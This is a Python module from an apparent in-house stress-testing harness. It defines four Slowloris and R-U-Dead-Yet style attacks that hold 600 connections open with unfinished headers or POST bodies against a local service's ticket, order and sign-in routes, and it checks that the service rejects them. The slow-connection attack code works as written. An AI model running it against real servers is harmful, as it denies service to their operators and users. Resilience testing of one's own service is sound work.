"""Connections that are held open by requests that never end (Slowloris, R-U-Dead-Yet)."""

from collections.abc import Callable
from typing import Final

from common.testing.raw_http import request_bytes
from siege.attack import Attack, Siege
from siege.attacker import Attacker, AttackReport, Facts

CONNECTIONS: Final = 600
BYTE_INTERVAL_SECONDS: Final = 3.0
RECONNECT_SECONDS: Final = 4.0
DECLARED_LENGTH: Final = "5000"


async def _hold(attacker: Attacker, opening: Callable[[int], bytes]) -> None:
    """Keep the connections open with a byte every few seconds, and open each closed one again."""

    async def hold_one(number: int) -> None:
        async with await attacker.connect(number) as connection:
            await connection.send(opening(number))
            while attacker.is_running:
                try:
                    attacker.count(await connection.receive(BYTE_INTERVAL_SECONDS))
                    break
                except TimeoutError:
                    await connection.send(b"x")
                    await attacker.pace()
        await attacker.pace(RECONNECT_SECONDS)

    await attacker.repeat(CONNECTIONS, hold_one)


def _unfinished(path: str, cookie: str = "") -> bytes:
    headers = {"Content-Length": DECLARED_LENGTH, **({"Cookie": cookie} if cookie else {})}
    return request_bytes("POST", path, headers, b"{")


async def slow_bodies(attacker: Attacker) -> None:
    """Send bodies without a session to a route that needs one."""
    await _hold(attacker, lambda _: _unfinished("/api/tickets"))


async def slow_bodies_signed_in(attacker: Attacker) -> None:
    """Send bodies with the session of one's own account."""
    cookie = attacker.facts["cookie"]
    await _hold(attacker, lambda _: _unfinished("/api/orders", cookie))


async def slow_sign_ins(attacker: Attacker) -> None:
    """Send bodies to a route that is open to everyone."""
    await _hold(attacker, lambda _: _unfinished("/api/users/signin"))


async def slow_heads(attacker: Attacker) -> None:
    """Send headers that never end."""
    await _hold(attacker, lambda _: b"GET /api/tickets HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


async def _sign_in(siege: Siege) -> Facts:
    _, (cookie,) = siege.session_cookies(1)
    return {"cookie": cookie}


async def _check_rejected(_siege: Siege, _facts: Facts, report: AttackReport) -> list[str]:
    accepted = sorted(status for status in report.statuses if status.startswith("2"))
    return [f"an unfinished body got {status}" for status in accepted]


ATTACKS: Final = (
    Attack(
        "slow-bodies",
        "600 connections with an unfinished body and no session",
        slow_bodies,
        check=_check_rejected,
        exhausts_its_address=True,  # all open at once, and each is rejected at once
    ),
    Attack(
        "slow-bodies-signed-in",
        "600 connections with an unfinished body and a session",
        slow_bodies_signed_in,
        prepare=_sign_in,
    ),
    Attack(
        "slow-sign-ins",
        "600 connections with an unfinished body of a sign-in",
        slow_sign_ins,
    ),
    Attack(
        "slow-heads",
        "600 connections with unfinished headers",
        slow_heads,
    ),
)
